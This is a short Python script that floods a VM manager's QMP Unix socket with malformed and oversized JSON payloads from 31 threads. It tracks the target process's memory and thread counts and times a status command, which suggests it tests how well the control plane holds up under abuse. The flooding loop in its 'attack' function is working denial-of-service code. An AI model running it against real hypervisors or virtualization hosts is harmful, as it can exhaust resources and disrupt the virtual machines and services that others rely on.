import socket,threading,time,os,sys
def rss(p): return [l for l in open(f'/proc/{p}/status') if 'VmRSS' in l or 'Threads' in l]
p=int(sys.argv[1]); print(rss(p))
socks=[]
def attack(i):
    s=socket.socket(socket.AF_UNIX); s.connect('h1'); socks.append(s); s.settimeout(0.05)
    s.sendall(b'{"execute":"qmp_capabilities"}\n')
    payloads=[b'['*60000+b'\n', b'{"execute":"query-qmp-schema"}\n'*500, b'{"execute":"query-block","id":"'+b'x'*60000+b'"}\n', b'\xff'*4096, b']'*4096, b'{"a":'*1000+b'1'+b'}'*1000]
    end=time.time()+6
    while time.time()<end:
        try: s.sendall(payloads[i%len(payloads)])
        except (socket.timeout,TimeoutError): pass
        except OSError: return
ts=[threading.Thread(target=attack,args=(i,)) for i in range(31)]
[t.start() for t in ts]
time.sleep(3); print(rss(p))
t0=time.time(); r=os.popen('/tmp/ctlbin/govmm ctl h1 status 2>&1').read(); print(r.strip(), 'in %.2fs'%(time.time()-t0))
[t.join() for t in ts]; print(rss(p)); [s.close() for s in socks]; time.sleep(1.5); print(rss(p))
t0=time.time(); print(os.popen('/tmp/ctlbin/govmm ctl h1 status 2>&1').read().strip(),'in %.2fs'%(time.time()-t0))
